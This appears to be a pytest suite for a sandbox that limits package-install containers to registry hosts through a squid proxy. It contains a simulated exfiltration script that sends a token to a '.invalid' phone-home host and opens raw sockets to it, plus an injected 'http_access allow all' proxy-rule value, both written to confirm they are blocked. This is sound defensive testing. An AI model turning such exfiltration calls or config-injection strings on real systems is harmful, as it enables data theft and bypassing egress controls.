"""Install-phase egress: the install container reaches only the registry, through a real squid on an internal network.

Unit tests cover the allowlist data and the log parser. The docker tests use the real engine and real containers; the
only hosts they try besides the npm registry are names under `.invalid` (and the proxy on the session network).
"""

from __future__ import annotations

import json
import signal
import subprocess
import sys
import textwrap

import pytest

from sandbox import gc, images, labels
from sandbox import install_egress as ie
from sandbox.errors import UserInputError
from sandbox.session import SandboxSession
from tests.sandbox_helpers import REPO, labelled_containers

CA = "/etc/ssl/certs/ca-certificates.crt"
PHONE_HOME = "phone-home.example.invalid"

# --------------------------------------------------------------------------------------------------- allowlist (unit)


def test_default_allowlist_comes_from_the_data_file():
    data = json.loads(ie.REGISTRIES_FILE.read_text())
    assert ie.registry_hosts("npm").hosts == tuple(data["npm"]["hosts"]) == ("registry.npmjs.org",)
    assert ie.registry_hosts("pypi").hosts == ("pypi.org", "files.pythonhosted.org")
    assert ie.registry_hosts("pypi").ports == (443,)


def test_allowlist_override_file_and_environment(tmp_path, monkeypatch):
    custom = tmp_path / "registries.json"
    custom.write_text(json.dumps({"npm": {"hosts": ["npm.mirror.example.invalid", ".cdn.example.invalid"],
                                          "ports": [443, 8443]}}))
    assert ie.registry_hosts("npm", config=custom).hosts == ("npm.mirror.example.invalid", ".cdn.example.invalid")
    assert ie.registry_hosts("npm", config=custom).ports == (443, 8443)
    monkeypatch.setenv(ie.REGISTRIES_ENV, str(custom))
    assert ie.registry_hosts("npm").hosts[0] == "npm.mirror.example.invalid"
    assert ie.registry_hosts("npm", extra_hosts=["extra.example.invalid"]).hosts[-1] == "extra.example.invalid"
    with pytest.raises(UserInputError, match="no registry allowlist for 'pypi'"):
        ie.registry_hosts("pypi")


@pytest.mark.parametrize("content", ["not json", "[]", '{"npm": {"hosts": "x"}}', '{"npm": {"hosts": ["a b"]}}',
                                     '{"npm": {"hosts": ["10.0.0.1"]}}', '{"npm": {"hosts": []}}',
                                     '{"npm": {"hosts": ["a.invalid"], "ports": [0]}}',
                                     '{"npm": {"hosts": ["a.invalid;http_access allow all"]}}'])
def test_bad_allowlist_is_a_user_error(tmp_path, content):
    path = tmp_path / "r.json"
    path.write_text(content)
    with pytest.raises(UserInputError):
        ie.load_registries(path)


def test_hosts_are_normalised_and_wildcards_absorb_their_subdomains():
    assert ie.validate_hosts(["A.example.invalid", "a.example.invalid", ".Example.invalid", "b.other.invalid"]) == (
        ".example.invalid", "b.other.invalid")
    assert ie.host_allowed("x.example.invalid", [".example.invalid"])
    assert ie.host_allowed("example.invalid.", [".example.invalid"])
    assert not ie.host_allowed("badexample.invalid", [".example.invalid"])
    assert not ie.host_allowed("registry.npmjs.org.evil.invalid", ["registry.npmjs.org"])


def test_parse_attempts_groups_squid_and_dnsmasq_lines():
    log = textwrap.dedent("""\
        2026/11/29 20:04:22| Accepting HTTP Socket connections at conn2 local=0.0.0.0:3128
        MCPEGRESS 1795982669.039 172.18.0.3 CONNECT registry.npmjs.org 443 TCP_TUNNEL/200 22067
        MCPEGRESS 1795982669.084 172.18.0.3 CONNECT registry.npmjs.org 443 TCP_TUNNEL/200 6223
        MCPEGRESS 1795982669.245 172.18.0.3 GET phone-home.example.invalid 80 TCP_DENIED/403 3378
        MCPEGRESS 1795982669.300 172.18.0.3 CONNECT Phone-Home.example.invalid 443 TCP_DENIED/403 3378
        MCPEGRESS 1795982669.400 172.18.0.3 NONE - - NONE_NONE/400 0
        dnsmasq[9]: query[A] raw.example.invalid from 172.18.0.3
        dnsmasq[9]: config raw.example.invalid is NXDOMAIN
        dnsmasq[9]: query[AAAA] raw.example.invalid from 172.18.0.3
        dnsmasq[9]: query[A] registry.npmjs.org from 172.18.0.3
        MCPEGRESS 1795982669.500 172.18.0.3 CONNECT bad\x01host.invalid 443 TCP_DENIED/403 0
        """)
    attempts = ie.parse_attempts(log, ["registry.npmjs.org"])
    by_key = {(a.via, a.host, a.port): a for a in attempts}
    assert by_key[("proxy", "registry.npmjs.org", 443)] == ie.EgressAttempt(
        "registry.npmjs.org", 443, True, 2, "proxy", ("CONNECT",), ("TCP_TUNNEL/200",))
    assert not by_key[("proxy", PHONE_HOME, 80)].allowed
    assert by_key[("proxy", PHONE_HOME, 443)].count == 1 and not by_key[("proxy", PHONE_HOME, 443)].allowed
    assert not by_key[("proxy", "-", None)].allowed  # a request squid could not parse is denied
    raw = by_key[("dns", "raw.example.invalid", None)]
    assert (raw.allowed, raw.count, raw.methods) == (False, 2, ("A", "AAAA"))
    assert by_key[("dns", "registry.npmjs.org", None)].allowed
    assert ("proxy", "bad\\x01host.invalid", 443) in by_key  # control characters never reach a report raw
    assert [a.host for a in ie.denied(attempts)] == [PHONE_HOME, PHONE_HOME, "-", "raw.example.invalid",
                                                     "bad\\x01host.invalid"]


def test_network_settings_override_every_proxy_variable():
    proxy = ie.InstallProxy(session=None, container_id="x", network="net", address="172.30.0.2",  # type: ignore[arg-type]
                            allow=ie.RegistryAllowlist(("registry.npmjs.org",)), image="i", start_seconds=0.0)
    settings = ie.install_network_settings(proxy)
    assert settings["network_mode"] == "net" and settings["dns"] == ["172.30.0.2"]
    env = settings["environment"]
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "NPM_CONFIG_PROXY",
                 "NPM_CONFIG_HTTPS_PROXY"):
        assert env[name] == "http://172.30.0.2:3128"
    assert "registry" not in env["NO_PROXY"] and env["NO_PROXY"] == env["no_proxy"]


# ---------------------------------------------------------------------------------------------------- real engine

INSTALL_LIKE = r"""
set -e
cd /tmp
npm install --no-audit --no-fund --loglevel=warn --prefix /tmp/p is-number@7.0.0
test -f /tmp/p/node_modules/is-number/package.json && echo NPM-OK
node -e '
const http = require("http"), net = require("net"), dns = require("dns");
const proxy = new URL(process.env.HTTP_PROXY);
// A proxy-aware client: through the proxy, plain http and an https CONNECT.
http.request({host: proxy.hostname, port: proxy.port, path: "http://PHONE/collect?token=1",
              headers: {Host: "PHONE", Connection: "close"}},
             r => { console.log("HTTP-STATUS", r.statusCode); r.resume(); }).end();
http.request({host: proxy.hostname, port: proxy.port, method: "CONNECT", path: "PHONE:443"})
  .on("connect", (r, sock) => { console.log("CONNECT-STATUS", r.statusCode); sock.destroy(); }).end();
// A client that ignores the proxy: a raw socket to a name, and a DNS lookup.
net.connect(80, "raw.PHONE").on("error", e => console.log("RAW", e.code)).on("connect", () => console.log("RAW connected"));
dns.lookup("registry.npmjs.org", e => console.log("DNS", e && e.code));
'
"""


@pytest.fixture
def npm_runtime(docker_client):
    return images.ensure_runtime_image(docker_client, "node").tag


def _session_networks(client, session_id=None):
    label = f"{labels.SESSION}={session_id}" if session_id else labels.SESSION
    return client.api.networks(filters={"label": label})


def _run_install_like(session, proxy, image, script):
    client = session.client
    settings = ie.install_network_settings(proxy)
    host_config = client.api.create_host_config(
        network_mode=settings["network_mode"], dns=settings["dns"], cap_drop=["ALL"],
        security_opt=["no-new-privileges"], binds={CA: {"bind": CA, "mode": "ro"}},
        tmpfs={"/tmp": "rw,nosuid,nodev,size=256m,mode=1777"})
    env = {"HOME": "/tmp", "NPM_CONFIG_CAFILE": CA, "NODE_EXTRA_CA_CERTS": CA, **settings["environment"]}
    container = session.create_container(
        "install", image=image, user="10001:10001", host_config=host_config,
        command=["env", *(f"{k}={v}" for k, v in env.items()), "sh", "-c", script.replace("PHONE", PHONE_HOME)])
    client.api.start(container)
    status = client.api.wait(container, timeout=300)
    output = client.api.logs(container, stdout=True, stderr=True).decode("utf-8", "replace")
    inspect = client.api.inspect_container(container)
    session.remove_container(container)
    return int(status["StatusCode"]), output, inspect


@pytest.mark.docker
@pytest.mark.registry
def test_registry_allowed_phone_home_denied_and_recorded(docker_client, npm_runtime, no_leftovers):
    with SandboxSession(docker_client) as session:
        proxy = ie.start_install_proxy(session, ie.registry_hosts("npm"))
        code, output, inspect = _run_install_like(session, proxy, npm_runtime, INSTALL_LIKE)
        assert code == 0, output
        # The install container is on the internal network only, resolving through the proxy's dnsmasq.
        assert set(inspect["NetworkSettings"]["Networks"]) == {proxy.network}
        assert "NPM-OK" in output
        assert "HTTP-STATUS 403" in output and "CONNECT-STATUS 403" in output
        assert "RAW ENOTFOUND" in output and "RAW connected" not in output
        assert "DNS ENOTFOUND" in output  # even a registry name does not resolve without the proxy
        attempts = proxy.attempts()
        by_key = {(a.via, a.host, a.port): a for a in attempts}
        registry = by_key[("proxy", "registry.npmjs.org", 443)]
        assert registry.allowed and registry.statuses == ("TCP_TUNNEL/200",)
        assert not by_key[("proxy", PHONE_HOME, 80)].allowed
        assert by_key[("proxy", PHONE_HOME, 80)].statuses == ("TCP_DENIED/403",)
        assert not by_key[("proxy", PHONE_HOME, 443)].allowed
        assert not by_key[("dns", f"raw.{PHONE_HOME}", None)].allowed
        assert {a.host for a in ie.denied(attempts)} == {PHONE_HOME, f"raw.{PHONE_HOME}"}
        network, session_id = proxy.network, session.id
    assert session.teardown_result is not None and session.teardown_result.complete
    assert network in session.teardown_result.removed
    assert labelled_containers(docker_client, session_id) == []
    assert _session_networks(docker_client, session_id) == []


@pytest.mark.docker
def test_proxy_and_network_are_hardened_and_read_back(docker_client, no_leftovers):
    with SandboxSession(docker_client) as session:
        proxy = ie.start_install_proxy(session, [".example.invalid", "registry.npmjs.org"], allow_ports=[443])
        api = docker_client.api
        network = api.inspect_network(proxy.network)
        assert network["Internal"] is True and network["Labels"][labels.SESSION] == session.id
        inspect = api.inspect_container(proxy.container_id)
        host = inspect["HostConfig"]
        assert host["CapDrop"] == ["ALL"] and not host["CapAdd"] and host["ReadonlyRootfs"]
        assert "no-new-privileges" in host["SecurityOpt"] and not host["Privileged"]
        assert inspect["Config"]["User"] == "proxy"
        assert set(inspect["NetworkSettings"]["Networks"]) == {proxy.network, "bridge"}
        assert inspect["Config"]["Labels"][labels.SESSION] == session.id
        assert proxy.proxy_url == f"http://{proxy.address}:3128"
        assert proxy.attempts() == []
        proxy.close()
        assert _session_networks(docker_client, session.id) == []
        assert labelled_containers(docker_client, session.id) == []


@pytest.mark.docker
def test_an_allowlisted_host_on_another_port_is_denied(docker_client, npm_runtime, no_leftovers):
    script = r"""node -e '
const http = require("http"); const proxy = new URL(process.env.HTTP_PROXY);
http.request({host: proxy.hostname, port: proxy.port, method: "CONNECT", path: "allowed.example.invalid:22"})
  .on("connect", (r, sock) => { console.log("PORT22", r.statusCode); sock.destroy(); }).end();'"""
    with SandboxSession(docker_client) as session:
        proxy = ie.start_install_proxy(session, ["allowed.example.invalid"])
        code, output, _ = _run_install_like(session, proxy, npm_runtime, script)
        assert code == 0 and "PORT22 403" in output, output
        assert [(a.host, a.port, a.allowed) for a in proxy.attempts()] == [("allowed.example.invalid", 22, False)]


@pytest.mark.docker
def test_teardown_removes_an_untracked_labelled_network_and_its_containers(docker_client, no_leftovers):
    with SandboxSession(docker_client) as session:
        name = f"mcp-sandbox-{session.id[:12]}-stray"
        docker_client.api.create_network(name, internal=True, labels=session.labels("stray"))
        container = docker_client.api.create_container(
            "debian:trixie-slim", command=["true"], labels=session.labels("stray"),
            host_config=docker_client.api.create_host_config(network_mode=name))
        assert container["Id"]
    assert session.teardown_result.complete, session.teardown_result
    assert name in session.teardown_result.removed
    assert _session_networks(docker_client, session.id) == []


KILLED_SCANNER = """
import sys, time
from sandbox import engine, install_egress
from sandbox.session import SandboxSession
session = SandboxSession(engine.connect())
proxy = install_egress.start_install_proxy(session, ["registry.npmjs.org"])
print(session.id, proxy.container_id, proxy.network, flush=True)
time.sleep(600)
"""


@pytest.mark.docker
def test_gc_removes_a_killed_scanners_proxy_and_network(docker_client, no_leftovers):
    """A scanner killed with SIGKILL leaves the proxy and its network behind: gc removes both, containers first."""
    child = subprocess.Popen([sys.executable, "-c", KILLED_SCANNER], stdout=subprocess.PIPE, text=True, cwd=REPO)
    try:
        session_id, container_id, network = child.stdout.readline().split()
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait()
    assert labelled_containers(docker_client, session_id) and _session_networks(docker_client, session_id)
    result = gc.sweep(docker_client)
    assert container_id[:12] in result.containers and network in result.networks
    assert labelled_containers(docker_client, session_id) == []
    assert _session_networks(docker_client, session_id) == []
